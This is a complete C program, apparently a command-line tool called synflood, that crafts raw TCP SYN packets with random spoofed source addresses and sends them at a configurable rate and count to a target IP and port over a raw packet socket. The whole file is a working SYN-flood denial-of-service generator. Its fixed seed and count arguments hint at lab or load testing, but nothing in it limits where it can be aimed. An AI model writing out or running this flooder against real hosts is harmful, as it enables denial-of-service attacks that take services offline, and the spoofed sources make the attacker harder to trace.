/*
 * SYNs from random sources, at a rate, to one port: synflood IF DST_MAC DST_IP PORT PER_SECOND COUNT SEED
 * Prints how many were sent and how long that took. Needs CAP_NET_RAW; sends on the given interface only.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BURST 64u
#define NS_PER_SEC 1000000000ull

struct frame {
    struct ether_header eth;
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t mss[4];
} __attribute__((packed));

static uint64_t now_ns(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * NS_PER_SEC + (uint64_t)t.tv_nsec;
}

/* splitmix64 */
static uint64_t rnd(uint64_t *x)
{
    uint64_t z = (*x += 0x9e3779b97f4a7c15ull);

    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

static uint32_t sum16(const void *p, size_t n, uint32_t sum)
{
    const uint8_t *b = p;

    for (size_t i = 0; i < n; i += 2)
        sum += (uint32_t)b[i] << 8 | b[i + 1];
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16 != 0)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void fill(struct frame *f, uint64_t *seed)
{
    uint64_t r = rnd(seed), q = rnd(seed);
    uint8_t pseudo[4] = {0, IPPROTO_TCP, 0, sizeof(f->tcp) + sizeof(f->mss)};

    f->ip.saddr = htonl(0x0b000000u | ((uint32_t)r & 0x7fffffu)); /* 11.0.0.0/9: nobody's here */
    f->ip.check = 0;
    f->ip.check = fold(sum16(&f->ip, sizeof(f->ip), 0));
    f->tcp.source = htons((uint16_t)(1024 + (r >> 32) % 60000));
    f->tcp.seq = (uint32_t)q;
    f->tcp.check = 0;
    f->tcp.check = fold(sum16(&f->tcp, sizeof(f->tcp) + sizeof(f->mss), sum16(&f->ip.saddr, 8, sum16(pseudo, 4, 0))));
}

static void send_burst(int fd, struct frame *f, unsigned n)
{
    struct mmsghdr msg[BURST] = {0};
    struct iovec iov[BURST];
    unsigned done = 0;

    for (unsigned i = 0; i < n; i++) {
        iov[i] = (struct iovec){&f[i], sizeof(f[i])};
        msg[i].msg_hdr = (struct msghdr){.msg_iov = &iov[i], .msg_iovlen = 1};
    }
    while (done < n) {
        int ret = sendmmsg(fd, msg + done, n - done, 0);

        if (ret < 0 && errno != ENOBUFS && errno != EAGAIN) {
            perror("synflood: sendmmsg");
            exit(1);
        }
        done += ret > 0 ? (unsigned)ret : 0;
    }
}

static int open_if(const char *name)
{
    struct sockaddr_ll a = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name)};
    int fd = socket(AF_PACKET, SOCK_RAW, 0);

    if (fd < 0 || a.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) != 0) {
        fprintf(stderr, "synflood: %s: %s\n", name, strerror(errno));
        exit(1);
    }
    return fd;
}

int main(int argc, char **argv)
{
    struct frame f[BURST] = {0}, *t = &f[0];
    uint64_t per_second, count, seed, start, sent = 0;
    unsigned m[6];
    int fd;

    if (argc != 8 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6) {
        fputs("usage: synflood IF DST_MAC DST_IP PORT PER_SECOND COUNT SEED\n", stderr);
        return 2;
    }
    per_second = strtoull(argv[5], NULL, 0);
    count = strtoull(argv[6], NULL, 0);
    seed = strtoull(argv[7], NULL, 0);
    fd = open_if(argv[1]);
    for (int i = 0; i < 6; i++)
        t->eth.ether_dhost[i] = (uint8_t)m[i];
    memcpy(t->eth.ether_shost, "\x02\x00\x00\x00\x0b\x0b", 6);
    t->eth.ether_type = htons(ETHERTYPE_IP);
    t->ip = (struct iphdr){.version = 4, .ihl = 5, .tot_len = htons(sizeof(*t) - sizeof(t->eth)), .ttl = 64, .protocol = IPPROTO_TCP};
    t->ip.daddr = inet_addr(argv[3]);
    t->tcp = (struct tcphdr){.dest = htons((uint16_t)atoi(argv[4])), .doff = 6, .syn = 1, .window = htons(65535)};
    memcpy(t->mss, "\x02\x04\x05\xb4", 4);
    for (unsigned i = 1; i < BURST; i++)
        f[i] = f[0];
    start = now_ns();
    while (sent < count) {
        uint64_t due = (now_ns() - start) * per_second / NS_PER_SEC;
        uint64_t ready = (due < count ? due : count) - sent;
        unsigned n = (unsigned)(ready < BURST ? ready : BURST);

        if (n == 0) {
            usleep(200);
            continue;
        }
        for (unsigned i = 0; i < n; i++)
            fill(&f[i], &seed);
        send_burst(fd, f, n);
        sent += n;
    }
    printf("sent %llu in %.3f s\n", (unsigned long long)sent, (double)(now_ns() - start) / 1e9);
    return 0;
}
